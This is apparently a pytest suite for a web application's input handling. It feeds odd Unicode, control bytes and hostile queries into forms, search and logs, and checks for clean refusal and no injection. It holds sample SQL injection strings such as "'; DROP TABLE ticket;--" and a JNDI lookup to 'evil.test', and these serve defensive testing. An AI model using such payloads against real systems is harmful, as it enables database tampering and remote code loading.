"""Unusual letters come back as they went in; odd bytes, and words that search engines take for orders, do no harm."""

import base64
import logging
import re

import pytest
from doors.hostile.conftest import World
from factories import hostile
from factories.harmless import faults
from factories.walker import NUMBER, forms_on
from selectolax.lexbor import LexborHTMLParser as Tree

OWN_LETTERS = (
    "a\u202eb\u202c",
    "zero\u200bwidth\u200d",
    "e\u0301 é ﬁ",
    "𝐀𝐁 \U0001f3f4\U000e0067",
    "\u2066in\u2069",
    "line\u2028sep\u2029",
    "٢٠٥ ۱۲۳ −205",
    "İstanbul ΣΣς",
    "«гіллі» 「角」",
    "tab\there",
    "\uffff",
    "vt\x0bff\x0c",
)
CONTROLS = ("\x00nul", "a\x00b", "\x01\x07\x1b[31mred", "\x7f", "\ud800 lone", "\udfff")
OWN_BYTES = (
    b"q=%ff%fe",
    b"q=%c0%80",
    b"q=%00",
    b"q=%",
    b"q=\xff\xfe",
    b"q[]=a",
    b"&&&",
    b"=",
    b"q",
    b"after=%00",
    b"view=%ff",
    b"before=\xc0\x80",
    b"=&=&q=" + b"%ed%a0%80",
    b";;;q=1;2",
)
OWN_QUERIES = (
    '"',
    '""',
    "'",
    '"unclosed',
    "*",
    "a*",
    "^a",
    "(",
    ")",
    "NOT",
    "a AND",
    "OR",
    "NEAR(a b, 1)",
    "a:b",
    "-a",
    "{a}",
    "a\\",
    "%",
    "_",
    "%%%",
    "a%' ESCAPE '",
    "'; DROP TABLE ticket;--",
    "1 OR 1=1",
    "\x00",
    "🏴",
    "(select 1)",
    "!",
    "a & b",
    "a | b",
    "<->",
    "a:*",
    "\\'",
    "$$",
    "a" * 2_000,
    " ".join("ab" * 400),
)
STORED = {"/tickets/N/wording", "/tickets/N/draft", "/tickets/N/statements/N/edit", "/sources/N"}
ONE_LINE = {"wording"}  # white space is folded in it, as its rule says


def kept() -> list[str]:
    """Letters that must come back."""
    rows = [row for row in hostile.rows("unicode_text") if row["expect"] == "roundtrip"]
    return [*OWN_LETTERS, *(row["payload"] for row in rows)]


def as_sent(words: str) -> str:
    """Words as a form sends and shows them: one kind of line end, none around them."""
    return re.sub(r"\r\n?", "\n", words).strip()


def test_unusual_letters_come_back_as_they_went_in(world: World) -> None:
    words = as_sent(" | ".join(kept()))
    tried = set()
    for shape, found in world.offers("editor").items():
        who, offer = found[0]
        areas = [one.name for one in offer.fields if one.kind == "textarea"]
        if shape[1] not in STORED:
            continue
        sent = {**offer.values(), **{name: [words] for name in areas}, "keep_copy": []} | world.version(offer)
        answer = world.send(who, offer, sent)
        assert answer.status_code == 303, (shape, Tree(answer.get_data(as_text=True)).css_first("main").text()[:300])
        html = world.walkers[who].look(offer.page).get_data(as_text=True)
        again = next(one for one in forms_on(offer.page, html) if one.action == offer.action)
        for name in areas:
            wanted = " ".join(words.split()) if name in ONE_LINE else words
            assert as_sent(again.values()[name][0]) == wanted, f"{shape[1]}: {name}"
        tried.add(shape[1])
    assert tried == STORED


def test_a_name_is_kept_to_the_letter_or_refused(world: World) -> None:
    who, offer = next(found[0] for shape, found in world.offers("editor").items() if shape[1] == "/sources/N")
    taken = 0
    for words in (*OWN_LETTERS[::2], *kept()[1::3], *CONTROLS[:-2]):
        name = f"Office {as_sent(words)} end"
        answer = world.send(who, offer, offer.values() | world.version(offer) | {"name": [name]})
        assert faults(answer) == [], name
        if answer.status_code == 303:
            taken += 1
            html = world.walkers[who].look(offer.page).get_data(as_text=True)
            again = next(one for one in forms_on(offer.page, html) if one.shape == offer.shape)
            assert again.values()["name"] == [" ".join(re.sub("[\x00-\x08\x0e-\x1f\x7f]", "", name).split())]
        else:
            assert answer.status_code in {409, 422}, name
    assert taken > 5


def test_what_no_text_holds_is_refused_or_left_out(world: World) -> None:
    wrong = []
    for shape, found in world.offers("editor", "admin", "reader").items():
        for words in CONTROLS[:2] if shape[1] != "/search" else CONTROLS:
            who, offer = found[-1]
            raw = {one.name: [words] for one in offer.fields if one.is_written}
            if not raw:
                continue
            sent = offer.values() | world.version(offer) | raw
            encoded = {name: [one.encode("utf-8", "surrogatepass") for one in values] for name, values in sent.items()}
            answer = world.send(who, offer, encoded)  # type: ignore[arg-type]
            wrong += [f"{shape[1]} with {words!r}: {fault}" for fault in faults(answer)]
    assert wrong[:10] == []
    for page, html in world.pages("editor").items():
        assert "\x00" not in html, page


def test_odd_bytes_in_a_query_or_a_form_do_no_harm(world: World) -> None:
    odd = [*OWN_BYTES, *(base64.b64decode(row["payload"]["b64"]) for row in hostile.rows("encoding"))]
    kinds = {NUMBER.sub("N", path.split("?")[0]): path.split("?")[0] for path in world.furnished.pages["editor"]}
    paths, wrong = sorted(kinds.values()), []
    for turn, raw in enumerate(odd):
        for path in {*paths[turn % 9 :: 9], "/search", "/queue", "/admin/log", "/public"}:
            answer = world.walkers["editor"].client.get(path, environ_overrides={"QUERY_STRING": raw.decode("latin-1")})
            wrong += [f"{path} with {raw!r}: {fault}" for fault in faults(answer)]
        for path in ("/tickets/3/wording", "/articles/new", "/sources/2", "/sign-in", "/queue/next"):
            body = f"csrf_token={world.token('editor')}&version=1&".encode() + raw
            kind = (
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "text/plain; charset=nosuch",
                "",
            )[turn % 4]
            answer = world.walkers["editor"].client.post(path, data=body, content_type=kind)
            wrong += [f"{path} with {raw!r} as {kind}: {fault}" for fault in faults(answer)]
    assert wrong[:10] == []


def test_what_is_searched_for_is_never_an_order(world: World) -> None:
    queries = [*OWN_QUERIES, *(row["payload"] for name in ("fts_query", "sql_like") for row in hostile.rows(name))]
    wrong = []
    for turn, query in enumerate(queries):
        for path, name in (("/search", "q"), *((("/sources", "name"),) if turn % 3 == 0 else ())):
            answer = world.walkers["editor"].client.get(path, query_string={name: str(query)})
            wrong += [f"{path} for {query!r}: {fault}" for fault in faults(answer)]
    assert wrong[:10] == []
    for nothing in ("%", "_", "%%%", "*", "1 OR 1=1"):
        answer = world.walkers["editor"].client.get("/search", query_string={"q": nothing})
        assert not Tree(answer.get_data(as_text=True)).css("mark"), f"{nothing} finds something"
    found = world.walkers["editor"].client.get("/search", query_string={"q": "recruited"})
    assert Tree(found.get_data(as_text=True)).css("mark")


def test_nobody_writes_a_line_of_their_own_into_the_log(world: World, caplog: pytest.LogCaptureFixture) -> None:
    lines = [
        "x\n2026-01-01 INFO signed in",
        "x\r\ny",
        "a\u2028b",
        "a\u0085b",
        "\x1b[31mred",
        "${jndi:ldap://evil.test}",
    ]
    lines += [row["payload"] for row in hostile.rows("log_injection")]
    with caplog.at_level(logging.INFO):
        for turn, words in enumerate(lines):
            world.walkers["editor"].client.get("/search", query_string={"q": words})
            world.walkers["editor"].client.get("/queue", query_string={"view": words, "after": words})
            if turn % 4 == 0:  # each costs the work of a password
                sent = {"csrf_token": world.token("reader"), "email": words, "password": words}
                assert world.walkers["reader"].client.post("/sign-in", data=sent).status_code < 500
            token = {"csrf_token": world.token("editor")}
            world.walkers["editor"].client.post(
                "/tickets/3/wording", data={**token, "wording": words, "version": words}
            )
    for record in caplog.records:
        assert len(record.getMessage().splitlines()) == 1, record.getMessage()
        assert not any(words in record.getMessage() for words in lines)
